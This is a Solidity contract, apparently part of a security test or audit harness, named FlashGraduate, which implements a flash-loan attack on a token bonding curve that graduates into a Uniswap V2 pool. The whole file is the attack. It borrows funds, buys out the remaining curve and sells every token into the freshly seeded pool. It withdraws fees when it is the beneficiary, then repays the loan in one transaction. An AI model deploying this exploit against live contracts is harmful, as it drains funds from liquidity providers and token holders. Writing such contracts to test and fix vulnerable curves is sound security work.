// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {IFlashBorrower} from "./FlashBuyout.sol";

/// The curve functions the attack uses.
interface IGraduatingCurve {
    function buy(uint256 minTokensOut, uint256 deadline) external payable returns (uint256);
    function balanceOf(address owner) external view returns (uint256);
    function approve(address spender, uint256 value) external returns (bool);
    function withdrawFees() external;
    function feesOwed() external view returns (uint256);
    function beneficiary() external view returns (address);
}

/// The router function the attack uses.
interface ISwapRouter {
    function WETH() external pure returns (address);
    function swapExactTokensForETH(uint256 amountIn, uint256 amountOutMin, address[] calldata path, address to, uint256 deadline)
        external returns (uint256[] memory amounts);
}

/// The flash-loan buyout against a curve that graduates into a Uniswap V2 pair: borrow, buy
/// the rest of the curve (the buy seeds the pool), sell every token bought into the pool,
/// collect the fees when it is the beneficiary, repay; all in one transaction.
contract FlashGraduate is IFlashBorrower {
    IGraduatingCurve private curve;
    ISwapRouter private router;
    address payable private lender;

    receive() external payable {}

    /// Runs the attack with a loan of `amount` wei from `lender_`.
    function attack(address curve_, address router_, address payable lender_, uint256 amount) external {
        curve = IGraduatingCurve(curve_);
        router = ISwapRouter(router_);
        lender = lender_;
        IFlashLender(lender_).flashLoan(amount);
    }

    /// Called by the lender with the loan.
    function onFlashLoan() external payable override {
        curve.buy{value: msg.value}(1, block.timestamp);
        uint256 tokens = curve.balanceOf(address(this));
        curve.approve(address(router), tokens);
        address[] memory path = new address[](2);
        path[0] = address(curve);
        path[1] = router.WETH();
        router.swapExactTokensForETH(tokens, 1, path, address(this), block.timestamp);
        if (curve.beneficiary() == address(this) && curve.feesOwed() > 0) curve.withdrawFees();
        (bool ok,) = lender.call{value: msg.value}("");
        require(ok, "repay failed");
    }
}

/// The lender's entry point.
interface IFlashLender {
    function flashLoan(uint256 amount) external;
}
